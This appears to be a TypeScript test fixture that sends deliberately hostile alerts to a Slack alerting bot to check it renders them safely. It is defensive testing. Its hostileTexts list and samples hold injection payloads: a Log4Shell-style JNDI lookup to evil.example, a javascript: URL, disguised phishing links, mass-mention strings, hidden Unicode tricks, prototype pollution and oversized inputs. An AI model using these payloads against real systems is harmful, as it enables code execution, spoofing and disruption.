import { alertmanagerDelivery, type PrometheusAlert } from './alertmanager.ts';
import type { SampleDelivery } from './delivery.ts';
import { reasonFor } from './monitoring-samples.ts';
import type { Sample, SampleMoment } from './sample.ts';

/** Past every limit of Slack's, and within Alertmanager's 16 MB. */
const titleBytes = 1_000_000;
const labelCount = 10_000;
/** Just within what the bot's edge takes. */
const nesting = 90;

/** What would wake people, lead them astray or hide something, if it were taken for more than text. */
export const hostileTexts = [
  '<!channel> <!here> <!everyone> <!subteam^S0ONCALL>',
  '<@U0ADA> @channel @here <#C0OPS>',
  '<https://evil.example|https://grafana.example/d/checkout>',
  'click https://evil.example/login or [this](https://evil.example) <mailto:a@evil.example|mail>',
  '*bold* _italic_ ~struck~ `code` ```block```\n> quote\n• list &lt;!channel&gt; &amp;',
  'admin\u200b \u202egnp.exe\u2066hidden\u2069 \u0000\u0007\u001b[31mred\u001b[0m \ufeff\u00ad',
  '{"a":"\\u003c!channel\\u003e"} $\u007bjndi:ldap://evil.example} {{tenant}} {tenant}',
  '\ud800 lone \udfff surrogates, Z\u0351a\u0489lgo\u0315 and 👩‍👩‍👧‍👦',
];

function deliveriesOf(moment: SampleMoment): SampleDelivery[] {
  const send = (labels: Record<string, string>, annotations: Record<string, string>, more = {}) => {
    const alert: PrometheusAlert = {
      labels: { severity: 'warning', env: 'production', ...labels },
      annotations,
      startsAt: moment.episode.startedAt,
      endsAt: moment.isOver ? moment.now : undefined,
    };
    const notification = { alerts: [alert], groupBy: ['alertname'], reason: reasonFor(moment) };
    return alertmanagerDelivery(notification, moment.secrets, more);
  };
  const [mentions = '', people = '', fakeLink = ''] = hostileTexts;
  const everything = hostileTexts.join(' ');
  return [
    send(
      {
        alertname: `${mentions} ${people}`,
        service: fakeLink,
        tenant: people,
        env: mentions,
        instance: everything,
        ['__proto__']: 'polluted',
      },
      {
        summary: everything,
        runbook_url: 'javascript:alert(1)',
        dashboard: 'https://evil.example/|<!channel>',
      },
    ),
    send(
      { alertname: `Long ${'💥'.repeat(titleBytes / 4)}`, service: 'hostile-title' },
      { summary: everything },
    ),
    send(
      {
        alertname: 'ManyLabels',
        service: 'hostile-labels',
        ...Object.fromEntries(
          Array.from({ length: labelCount }, (_, index) => [
            `label_${index}`,
            hostileTexts[index % hostileTexts.length]!,
          ]),
        ),
      },
      { summary: 'ten thousand labels' },
    ),
    {
      ...send({ alertname: 'Deep', service: 'hostile-nesting' }, {}, { nested: nested(nesting) }),
      mayBeRefused: true,
    },
  ];
}

function nested(levels: number): unknown {
  let value: unknown = '<!channel>';
  for (let level = 0; level < levels; level += 1) value = level % 2 === 0 ? [value] : { value };
  return value;
}

export const hostile: Sample = {
  summary: 'mentions, fake links, hidden characters, a title of 1 MB, 10,000 labels, deep nesting',
  deliveries: (moment) => [deliveriesOf(moment)],
};
